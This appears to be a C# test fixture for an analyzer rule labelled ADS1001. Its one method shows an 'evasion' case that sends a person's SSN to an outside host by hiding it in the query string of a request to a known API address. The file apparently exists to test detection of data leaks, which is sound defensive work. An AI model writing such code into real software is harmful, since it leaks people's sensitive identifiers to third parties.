// evasion: The data is in the query of a known address.
// caught by: ADS1001
using System.Net.Http;

internal static class Evasion
{
    internal static Task SendAsync(HttpClient http, Person person) => http.GetAsync("https://api.openai.com/v1/models?user=" + person.Ssn);
}
